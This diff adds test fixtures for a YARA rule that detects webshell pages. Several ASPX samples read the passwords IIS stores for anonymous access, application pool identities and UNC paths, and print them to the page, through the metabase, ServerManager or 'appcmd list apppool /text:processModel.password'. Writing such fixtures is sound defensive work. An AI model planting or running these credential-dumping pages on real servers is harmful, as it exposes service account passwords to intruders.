@@ -9,7 +9,7 @@ TaskMasters): the page shows the server's own "not found" error page while its c
 right request. ``data/rules/decoy_error_pages.yar`` carries that shape; the pages below reproduce it in C#,
 JScript and VB and in a handler, next to the ordinary pages closest to it (custom error pages that copy
 the stock wording, a page borrowing one phrase for its own message, a help page quoting the stock page).
-A second group keeps found the shapes of this collection that one check alone found. All pages were
+A second rule, ``data/rules/iis_credentials.yar``, carries a capability of the collection's sunue file manager (and of ASPXSpy's "IIS Spy") that nothing of ours saw when it stands alone in a page, probed after the first-sight run: reading the passwords IIS stores for anonymous access, virtual directories and application pool identities (metabase, Microsoft.Web.Administration, appcmd); its ordinary neighbours are a site list, provisioning pages that set those identities and a help page quoting the command. A last group keeps found the shapes of this collection that one check alone found. All pages were
 written for these tests: nothing is compiled or run, commands and keys are placeholders, and none is a
 copy of a real shell.
 """
@@ -164,7 +164,121 @@ DECOY_ORDINARY: list[Page] = [
     ),
 ]
 
-CASES = (("EXT_WEBSHELL_Decoy_Error_Page_With_Command", DECOYS, DECOY_ORDINARY),)
+# --- pages reading the credentials IIS stores (sunue's and ASPXSpy's "IIS" pages, on their own) ----------
+MB_ASM = (
+    '<%@ Assembly Name="System.DirectoryServices, Version=2.0.0.0, Culture=neutral, '
+    'PublicKeyToken=B03F5F7F11D50A3A" %>\n<%@ Import Namespace="System.DirectoryServices" %>\n'
+)
+IIS_CREDENTIALS: list[Page] = [
+    (
+        "cs-metabase-anonymous-user-dump",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n'
+        + MB_ASM
+        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        '  foreach (DirectoryEntry site in new DirectoryEntry("IIS://localhost/W3SVC").Children) {\n'
+        '    if (site.SchemaClassName != "IIsWebServer") continue;\n'
+        '    DirectoryEntry root = site.Children.Find("root", "IIsWebVirtualDir");\n'
+        '    Response.Write(site.Name + " | " + root.Properties["AnonymousUserName"].Value + " | "\n'
+        '      + root.Properties["AnonymousUserPass"].Value + "<br>");\n  }\n}\n</script>\n',
+    ),
+    (
+        "cs-metabase-app-pool-identity-into-list",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n'
+        + MB_ASM
+        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        '  foreach (DirectoryEntry pool in new DirectoryEntry("IIS://localhost/W3SVC/AppPools").Children)\n'
+        '    Pools.Items.Add(pool.Name + ":" + pool.Properties["WAMUserName"][0] + ":" + pool.Properties["WAMUserPass"][0]);\n'
+        '}\n</script>\n<html><body><asp:ListBox ID="Pools" runat="server" /></body></html>\n',
+    ),
+    (
+        "cs-servermanager-pool-password",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Assembly Name="Microsoft.Web.Administration, Version=7.0.0.0, '
+        'Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>\n<%\n'
+        "using (var m = new Microsoft.Web.Administration.ServerManager())\n"
+        "  foreach (var pool in m.ApplicationPools)\n"
+        '    Response.Write(pool.Name + "\\t" + pool.ProcessModel.UserName + "\\t" + pool.ProcessModel.Password + "\\n");\n%>\n',
+    ),
+    (
+        "vb-appcmd-pool-passwords",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<%\n'
+        'Dim i As New System.Diagnostics.ProcessStartInfo("C:\\Windows\\System32\\inetsrv\\appcmd.exe",'
+        ' "list apppool /text:processModel.password")\n'
+        "i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
+        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\n%>\n",
+    ),
+    (
+        "jscript-metabase-unc-password",
+        ".aspx",
+        '<%@ Page Language="JScript" %>\n<%\n'
+        'var root = new System.DirectoryServices.DirectoryEntry("IIS://localhost/W3SVC/1/ROOT");\n'
+        "for (var e = root.Children.GetEnumerator(); e.MoveNext();) {\n"
+        "  var v = e.Current;\n"
+        '  Response.Write(v.Name + " " + v.Properties["UNCUserName"].Value + " " + v.Properties["UNCPassword"].Value + "\\n");\n'
+        "}\n%>\n",
+    ),
+]
+
+IIS_CREDENTIALS_ORDINARY: list[Page] = [
+    (
+        "site-list-admin-page",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n'
+        + MB_ASM
+        + '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        '  foreach (DirectoryEntry site in new DirectoryEntry("IIS://localhost/W3SVC").Children)\n'
+        '    if (site.SchemaClassName == "IIsWebServer") Sites.Items.Add(site.Properties["ServerComment"].Value + " (" + site.Name + ")");\n'
+        '}\n</script>\n<html><body><asp:ListBox ID="Sites" runat="server" /></body></html>\n',
+    ),
+    (
+        "provisioning-sets-anonymous-user",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n'
+        + MB_ASM
+        + '<script runat="server">\nvoid Apply_Click(object s, EventArgs e) {\n'
+        '  var root = new DirectoryEntry("IIS://localhost/W3SVC/1/ROOT");\n'
+        '  root.Properties["AnonymousUserName"].Value = ConfigurationManager.AppSettings["anonUser"];\n'
+        '  root.Properties["AnonymousUserPass"].Value = ConfigurationManager.AppSettings["anonPass"];\n'
+        '  root.CommitChanges();\n  Status.Text = "Saved.";\n}\n</script>\n'
+        '<html><body><form runat="server"><asp:Button ID="Apply" runat="server" OnClick="Apply_Click" Text="Apply" />'
+        '<asp:Label ID="Status" runat="server" /></form></body></html>\n',
+    ),
+    (
+        "provisioning-sets-pool-identity",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        "using (var m = new Microsoft.Web.Administration.ServerManager()) {\n"
+        '  var pool = m.ApplicationPools["Reports"];\n'
+        '  pool.ProcessModel.UserName = ConfigurationManager.AppSettings["svcUser"];\n'
+        '  pool.ProcessModel.Password = ConfigurationManager.AppSettings["svcPass"];\n'
+        '  m.CommitChanges();\n  Response.Write("Pool updated.");\n}\n%>\n',
+    ),
+    (
+        "appcmd-pool-states",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'var i = new System.Diagnostics.ProcessStartInfo(@"C:\\Windows\\System32\\inetsrv\\appcmd.exe",'
+        ' "list apppool /text:name");\n'
+        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
+        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());\n%>\n",
+    ),
+    (
+        "help-page-quotes-appcmd",
+        ".aspx",
+        '<%@ Page Language="C#" Title="Auditing application pools" %>\n<html><body>\n'
+        "<p>Intruders read pool passwords with <code>appcmd list apppool /text:processModel.password</code>;"
+        " the page ApplicationPool.ProcessModel.Password; shows them with Response.Write in their tools.</p>\n"
+        "</body></html>\n",
+    ),
+]
+
+CASES = (
+    ("EXT_WEBSHELL_Decoy_Error_Page_With_Command", DECOYS, DECOY_ORDINARY),
+    ("EXT_WEBSHELL_IIS_Stored_Credential_Dump", IIS_CREDENTIALS, IIS_CREDENTIALS_ORDINARY),
+)
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(
     CASES, log_url="/EWS/contact.aspx"
